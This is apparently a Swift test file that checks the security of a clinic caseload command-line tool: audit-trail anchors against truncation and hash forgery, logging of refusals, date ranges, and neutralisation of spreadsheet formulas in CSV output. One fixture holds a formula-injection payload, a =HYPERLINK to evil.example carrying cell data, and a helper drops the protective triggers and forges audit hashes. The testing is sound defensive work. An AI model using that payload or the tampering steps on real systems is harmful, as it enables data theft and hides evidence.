// The command line as an attacker and a careless administrator would use it, on a small demo store of its own:
// audit anchors catch a trail cut short or a tail rewritten, `check` refuses a store without its protective
// triggers, refusals are recorded once and as refusals, `audit --to` reaches the last day, spreadsheet formulas
// never leave in a CSV, and chart numbers are one per client whatever their case.
import CaseloadCore
import CaseloadStore
import Foundation
import GRDB
import XCTest

final class SecurityCommandTests: XCTestCase {
    private var dir: URL!
    private var db = ""

    override func setUpWithError() throws {
        dir = try TempDirectories.make("security")
        db = dir.appendingPathComponent("demo.sqlite").path
        let made = try Run.caseload(["demo", "--db", db, "--clients", "20"], timeout: 600)
        XCTAssertEqual(made.status, 0, made.stderr)
    }

    private func caseload(_ arguments: [String]) throws -> RunResult { try Run.caseload(arguments + ["--db", db]) }

    /// Runs SQL on a store file as someone with write access would (the sqlite3 shell), triggers dropped first.
    private func tamper(_ path: String, _ statements: String) throws {
        let script = "DROP TRIGGER IF EXISTS audit_events_update; DROP TRIGGER IF EXISTS audit_events_delete; \(statements);"
        let r = try Run.program(URL(fileURLWithPath: "/usr/bin/sqlite3"), [path, script])
        XCTAssertEqual(r.status, 0, "sqlite3: \(r.stderr)")
    }

    private func auditRows(_ path: String, _ sql: String) throws -> [Row] {
        let queue = try DatabaseQueue(path: path)
        defer { try? queue.close() }
        return try queue.read { db in try Row.fetchAll(db, sql: sql) }
    }

    /// The canonical encoding (AuditChain.swift), hashed with coreutils: a forger who knows the format.
    private func forgedHash(_ r: Row, detail: String) throws -> String {
        func field(_ v: DatabaseValue) -> String {
            switch v.storage {
            case .null: return "~,"
            case .int64(let i): return "\(String(i).utf8.count):\(i),"
            case .string(let s): return "\(s.utf8.count):\(s),"
            default: return "?"
            }
        }
        var text = "caseload-audit-v1\n"
        for column in ["id", "at", "staff_id", "username", "action", "client_id", "subject"] { text += field(r[column]) }
        text += field(detail.databaseValue) + field(r["previous_hash"])
        let file = dir.appendingPathComponent("row.bin")
        try Data(text.utf8).write(to: file)
        let out = try Run.program(URL(fileURLWithPath: "/usr/bin/env"), ["sha256sum", file.path])
        return String(out.stdout.prefix(64))
    }

    // MARK: - Audit anchors and protective triggers

    func testAnchorsCatchATrailCutShortOrATailRewrittenAndCheckRefusesDroppedTriggers() throws {
        let key = dir.appendingPathComponent("anchor.key").path
        let anchors = dir.appendingPathComponent("anchors.txt").path
        let made = try Run.caseload(["audit", "anchor-key", "--out", key])
        XCTAssertEqual(made.status, 0, made.stderr)
        let mode = try XCTUnwrap(try FileManager.default.attributesOfItem(atPath: key)[.posixPermissions] as? Int)
        XCTAssertEqual(mode & 0o777, 0o600)
        let again = try Run.caseload(["audit", "anchor-key", "--out", key])
        XCTAssertNotEqual(again.status, 0, "an existing key is never overwritten")

        XCTAssertEqual(try caseload(["audit", "anchor", "--key", key, "--append", anchors]).status, 0)
        let firstHead: Int64 = try auditRows(db, "SELECT max(id) FROM audit_events")[0][0]
        XCTAssertEqual(try caseload(["audit", "--as", "admin"]).status, 0, "more events after the first anchor")
        XCTAssertEqual(try caseload(["audit", "anchor", "--key", key, "--append", anchors]).status, 0)
        let head: Int64 = try auditRows(db, "SELECT max(id) FROM audit_events")[0][0]
        XCTAssertGreaterThan(head, firstHead)
        let printed = try caseload(["audit", "anchor", "--key", key])
        XCTAssertTrue(printed.stdout.hasPrefix("caseload-audit-anchor v1 \(head) "), printed.stdout)

        let good = try caseload(["audit", "verify", "--anchor", anchors, "--key", key])
        XCTAssertEqual(good.status, 0, good.stderr)
        XCTAssertTrue(good.stdout.contains("2 anchors hold (the latest at event \(head))"), good.stdout)

        // A copy to rewrite the tail of, made before the cut.
        let copy = dir.appendingPathComponent("copy.sqlite").path
        XCTAssertEqual(try Run.program(URL(fileURLWithPath: "/usr/bin/sqlite3"), [db, ".backup '\(copy)'"]).status, 0)

        // The last events cut off: the chain alone still verifies, the anchor does not.
        try tamper(db, "DELETE FROM audit_events WHERE id > \(firstHead)")
        XCTAssertEqual(try caseload(["audit", "verify"]).status, 0, "a cut-off tail leaves an intact chain")
        let cut = try caseload(["audit", "verify", "--anchor", anchors, "--key", key])
        XCTAssertNotEqual(cut.status, 0)
        XCTAssertTrue(cut.stderr.contains("names audit event \(head), but the trail ends at event \(firstHead): events were cut off its end"), cut.stderr)

        // The last event rewritten with its hash recomputed as a forger who knows the format would: the chain
        // verifies, the anchor does not.
        let last = try XCTUnwrap(try auditRows(copy, "SELECT * FROM audit_events WHERE id = \(head)").first)
        try tamper(copy, "UPDATE audit_events SET detail = 'nothing happened', hash = '\(try forgedHash(last, detail: "nothing happened"))' WHERE id = \(head)")
        XCTAssertEqual(try Run.caseload(["audit", "verify", "--db", copy]).status, 0, "a recomputed tail leaves an intact chain")
        let rewritten = try Run.caseload(["audit", "verify", "--db", copy, "--anchor", anchors, "--key", key])
        XCTAssertNotEqual(rewritten.status, 0)
        XCTAssertTrue(rewritten.stderr.contains("names audit event \(head), which now has another hash: the trail was rewritten from there"), rewritten.stderr)

        // An anchor line edited to match the trail is not authentic; a wrong key neither.
        let text = try String(contentsOfFile: anchors, encoding: .utf8)
        let edited = dir.appendingPathComponent("edited.txt").path
        try text.replacingOccurrences(of: "v1 \(head) ", with: "v1 \(firstHead) ").write(toFile: edited, atomically: true, encoding: .utf8)
        let forged = try caseload(["audit", "verify", "--anchor", edited, "--key", key])
        XCTAssertNotEqual(forged.status, 0)
        XCTAssertTrue(forged.stderr.contains("anchor line 2 is not authentic under this key"), forged.stderr)

        // `check` refuses a store whose protective triggers were dropped (the tamper above dropped two).
        let check = try caseload(["check"])
        XCTAssertNotEqual(check.status, 0)
        XCTAssertTrue(check.stdout.contains("the protective trigger 'audit_events_delete' is missing"), check.stdout)
        XCTAssertTrue(check.stdout.contains("the protective trigger 'audit_events_update' is missing"), check.stdout)
    }

    // MARK: - Refusals

    func testRefusalsAreRecordedOnceAndAsRefusalsAndTheActOnlyWhenItHappened() throws {
        let store = try SQLiteStore.open(path: db, clock: SystemClock())
        let me = try XCTUnwrap(try store.staff(username: osLogin()))
        let mine = try SQLiteStore.open(path: db, clock: SystemClock())
        try mine.bind(viewer: me)
        let exported = try Run.exportAll(db)
        let clients = try XCTUnwrap((try JSONSerialization.jsonObject(with: exported.stdoutData) as? [String: Any])?["clients"] as? [[String: Any]])
        var hidden: String?
        for c in clients {
            guard let id = c["id"] as? Int, let mrn = c["mrn"] as? String else { continue }
            if try mine.clientAccess(clientID: RowID(id)) == .none { hidden = mrn; break }
        }
        let mrn = try XCTUnwrap(hidden, "the demo has a client I may not see")
        func count(_ action: String, _ subject: String) throws -> Int {
            try auditRows(db, "SELECT count(*) FROM audit_events WHERE action = '\(action)' AND subject LIKE '\(subject)'")[0][0]
        }

        // A refused export is a refusal, never an export.
        let exportsBefore = try count("export", "%")
        let export = try caseload(["export", "--client", mrn])
        XCTAssertNotEqual(export.status, 0)
        XCTAssertEqual(export.stdout, "")
        XCTAssertEqual(try count("export", "%"), exportsBefore, "no export was recorded")
        XCTAssertEqual(try count("refused", "export"), 1)
        // A chart that does not exist is refused in the same words; the command line names --break-glass.
        let missing = try caseload(["export", "--client", "ZZ-404"])
        XCTAssertEqual(missing.stderr, export.stderr.replacingOccurrences(of: mrn, with: "ZZ-404"))
        XCTAssertTrue(export.stderr.contains("give --break-glass REASON"), export.stderr)
        XCTAssertFalse(export.stderr.contains(":breakglass"), export.stderr)

        // `settings set` by a counselor, an import by a facilitator: refused and recorded.
        let settings = try caseload(["settings", "set", "plan_review_interval_days", "30"])
        XCTAssertNotEqual(settings.status, 0)
        XCTAssertEqual(try count("refused", "settings:plan_review_interval_days"), 1)
        let facilitator = try XCTUnwrap(try store.allStaff().first { $0.role == .facilitator && $0.active })
        let roster = dir.appendingPathComponent("roster.csv").path
        try "mrn,last_name,first_name,date_of_birth,admission_date,phase,medication,dose_mg,take_home_level,counselor,status\nN-1,Doe,Jo,1980-01-01,2024-01-01,Maintenance,methadone,80,0,,active\n"
            .write(toFile: roster, atomically: true, encoding: .utf8)
        let imported = try caseload(["import", "clients", roster, "--as", facilitator.username])
        XCTAssertNotEqual(imported.status, 0)
        XCTAssertEqual(try count("refused", "roster_import"), 1)
        // A dry run is recorded as a view of the file; a file with problems as a refused import.
        XCTAssertEqual(try caseload(["import", "clients", roster, "--dry-run", "--as", "admin"]).status, 0)
        XCTAssertEqual(try count("view", "roster_import"), 1)
        let bad = dir.appendingPathComponent("bad.csv").path
        try "mrn,last_name\n=2+5,Doe\n".write(toFile: bad, atomically: true, encoding: .utf8)
        XCTAssertNotEqual(try caseload(["import", "clients", bad, "--as", "admin"]).status, 0)
        XCTAssertEqual(try count("refused", "roster_import"), 2)
    }

    // MARK: - Audit listing dates

    func testTheLastDayATimeStampCanHoldListsEveryEvent() throws {
        func events(_ extra: [String]) throws -> Int {
            let r = try caseload(["audit", "--as", "admin", "--format", "csv", "--action", "refused"] + extra)
            XCTAssertEqual(r.status, 0, r.stderr)
            return r.stdout.components(separatedBy: "\r\n").filter { !$0.isEmpty }.count - 1
        }
        _ = try caseload(["audit"])   // a counselor's refused read, so there is something to list
        let all = try events([])
        XCTAssertGreaterThan(all, 0)
        XCTAssertEqual(try events(["--to", "9999-12-31"]), all)
        XCTAssertEqual(try events(["--from", "1900-01-01", "--to", "9999-12-31"]), all)
        let bad = try caseload(["audit", "--as", "admin", "--to", "2026-02-30"])
        XCTAssertNotEqual(bad.status, 0)
        XCTAssertTrue(bad.stderr.contains("--to '2026-02-30' is not a valid date"), bad.stderr)
    }

    // MARK: - CSV output and chart numbers

    func testFormulasNeverLeaveInACSVAndChartNumbersAreOnePerClientWhateverTheirCase() throws {
        let roster = dir.appendingPathComponent("roster.csv").path
        let me = osLogin()
        try #"""
            mrn,last_name,first_name,date_of_birth,admission_date,phase,medication,dose_mg,take_home_level,counselor,status
            d-2,"=HYPERLINK(""http://evil.example/?""&F2,""Open chart"")&""",@Jo,1980-01-01,2020-01-01,Maintenance,methadone,80,0,\#(me),active

            """#.write(toFile: roster, atomically: true, encoding: .utf8)
        let first = try caseload(["import", "clients", roster, "--as", "admin"])
        XCTAssertEqual(first.status, 0, first.stderr)
        // The same chart in another case is the same client: updated, not added.
        try String(contentsOfFile: roster, encoding: .utf8).replacingOccurrences(of: "d-2,", with: "D-2,")
            .replacingOccurrences(of: ",80,", with: ",85,").write(toFile: roster, atomically: true, encoding: .utf8)
        let second = try caseload(["import", "clients", roster, "--as", "admin"])
        XCTAssertEqual(second.status, 0, second.stderr)
        XCTAssertTrue(second.stdout.contains("0 added, 1 updated"), second.stdout)
        // A chart number a spreadsheet would evaluate is refused.
        try String(contentsOfFile: roster, encoding: .utf8).replacingOccurrences(of: "D-2,", with: "=2+5,")
            .write(toFile: roster, atomically: true, encoding: .utf8)
        let formula = try caseload(["import", "clients", roster, "--as", "admin"])
        XCTAssertNotEqual(formula.status, 0)
        XCTAssertTrue(formula.stderr.contains("is not a chart number"), formula.stderr)

        // Every CSV: no cell starts with a formula character.
        let outputs = [try caseload(["report", "overdue", "--format", "csv"]),
                       try caseload(["audit", "--as", "admin", "--format", "csv"])]
        for out in outputs {
            XCTAssertEqual(out.status, 0, out.stderr)
            XCTAssertFalse(out.stdout.contains(",=") || out.stdout.contains(",\"=") || out.stdout.contains(",@"), out.stdout)
        }
        XCTAssertTrue(outputs[0].stdout.contains("'=HYPERLINK"), "the name is there, neutralised: \(outputs[0].stdout)")
        XCTAssertTrue(outputs[1].stdout.contains(",D-2,"), "the audit trail lists the client under its one chart number")
    }
}
